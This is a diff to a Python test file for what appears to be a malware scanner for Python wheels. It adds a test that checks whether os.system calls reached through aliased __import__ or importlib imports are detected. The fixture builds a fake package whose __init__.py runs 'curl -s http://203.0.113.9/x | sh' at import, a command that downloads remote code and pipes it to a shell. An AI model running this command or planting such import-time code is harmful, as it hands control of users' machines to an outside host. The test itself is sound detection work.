@@ -17,7 +17,7 @@ from interlock.analysis.extract.python.report import SourceReport
 from interlock.analysis.facts import Capability, Fact, Tag, When
 from interlock.model.findings import Severity
 from interlock.model.verdict import Verdict
-from tests.builders import analyse, facts_of, findings_of, only, scan_wheel
+from tests.builders import analyse, facts_of, findings_of, only, rule_ids, scan_wheel
 
 P = Capability.PROCESS
 
@@ -342,6 +342,25 @@ def test_aliases_resolve_to_the_real_callee(source: str, detail: str) -> None:
     report = analyse(source)
     fact = only(facts_of(report, P))
     assert (fact.detail, fact.when, fact.line) == (detail, When.IMPORT, source.count("\n"))
+
+
+@pytest.mark.parametrize(
+    "binding",
+    [
+        "m = __import__('os')",
+        "import builtins\nm = builtins.__import__('os')",
+        "import builtins\nload = builtins.__import__\nm = load('os')",
+        "import importlib\nm = importlib.import_module('os')",
+    ],
+    ids=["dunder-import", "builtins-import", "builtins-import-bound", "import-module"],
+)
+def test_a_module_bound_to_a_name_by_an_import_call_reads_like_the_call_itself(binding: str) -> None:
+    # `m = __import__("os"); m.system(…)` was clean while `__import__("os").system(…)` was malicious.
+    command = "curl -s http://203.0.113.9/x | sh"
+    bound = scan_wheel({"demo/__init__.py": f"{binding}\nm.system({command!r})\n"})
+    direct = scan_wheel({"demo/__init__.py": f"__import__('os').system({command!r})\n"})
+    assert direct.verdict is Verdict.MALICIOUS
+    assert (bound.verdict, rule_ids(bound)) == (direct.verdict, rule_ids(direct))
 
 
 def test_eval_of_a_computed_name_is_reported_as_hiding_it() -> None:
